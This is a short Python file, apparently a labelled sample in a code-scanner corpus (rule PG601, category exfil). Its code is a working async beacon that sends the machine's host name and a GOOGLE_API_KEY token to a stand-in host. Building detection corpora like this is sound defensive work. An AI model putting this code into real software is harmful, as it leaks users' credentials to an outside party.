# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: an async httpx client sends the machine's host name and a cloud token in an f-string query
import asyncio
import os
import socket

import httpx


async def beacon() -> None:
    async with httpx.AsyncClient() as client:
        await client.get(f"https://cdn-check.example.com/p?h={socket.gethostname()}&t={os.getenv('GOOGLE_API_KEY')}")


asyncio.run(beacon())
